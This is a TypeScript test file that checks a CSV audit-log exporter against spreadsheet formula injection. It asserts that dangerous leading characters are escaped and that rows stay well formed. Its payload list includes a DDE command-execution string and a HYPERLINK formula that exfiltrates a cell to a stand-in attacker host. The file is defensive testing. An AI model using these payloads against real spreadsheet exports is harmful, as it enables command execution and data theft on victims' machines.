import { describe, expect, test } from 'vitest'
import type { AuditEntry } from '../core/audit.ts'
import { chainRows, emptyHead } from '../core/audit-chain.ts'
import { auditCsv, CSV_HEAD, csvCell } from './audit-csv.ts'

/** What spreadsheets evaluate, as attackers write it. */
const FORMULAS = [
  '=1+1',
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d1',
  '\uff20SUM(1)',
  '=',
  '-',
]
const HARMLESS = [
  '',
  'ada@example.com',
  'a=b',
  '203.0.113.7',
  '2001:db8::/64',
  ' =1',
  '{"a":1}',
  "'",
]

/** RFC 4180, as strict readers take it. */
function readCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y
  while (cell.lastIndex < text.length) {
    const match = cell.exec(text)
    if (match === null) throw new Error(`not CSV from here on: ${text.slice(0, 80)}`)
    const [, quoted, plain = '', end] = match
    row.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'))
    if (end === ',') continue
    rows.push(row)
    row = []
  }
  return rows
}

const rowWith = (text: string) => {
  const entry: AuditEntry = {
    ...{ atMs: 1_750_000_000_000, event: 'key.leaked', keyId: text, actor: text, address: text },
    ...{ requestId: text, details: { where: text, [text]: text }, count: 3 },
  }
  const [row] = chainRows(emptyHead('main'), [entry])
  if (row === undefined) throw new Error('no row')
  return row
}

describe('a cell of an export', () => {
  test.each(FORMULAS)('%j is text in a spreadsheet, not a formula', (formula) => {
    const [[cell = ''] = []] = readCsv(`${csvCell(formula)}\r\n`)
    expect(cell).toBe(`'${formula}`)
  })

  test.each(HARMLESS)('%j stays as it is', (text) => {
    expect(readCsv(`${csvCell(text)}\r\n`)).toEqual([[text]])
  })
})

test.each([...FORMULAS, ...HARMLESS, '","', '"\r\n"', 'a\r\nb', '\0'])(
  'a row that holds %j everywhere has all of its columns, and none begins a formula',
  (text) => {
    const row = rowWith(text)
    const [head = [], cells = [], ...more] = readCsv(CSV_HEAD + auditCsv(row))
    expect(more).toEqual([])
    expect(cells).toHaveLength(head.length)
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/)
    const column = (name: string) => cells[head.indexOf(name)]
    expect([column('time'), column('event'), column('count'), column('seq')]).toEqual([
      ...['2025-06-15T15:06:40.000Z', 'key.leaked', '3', '1'],
    ])
    expect(column('hash')).toBe(row.hash)
    expect(JSON.parse(column('details') ?? '')).toEqual({ where: text, [text]: text })
  },
)
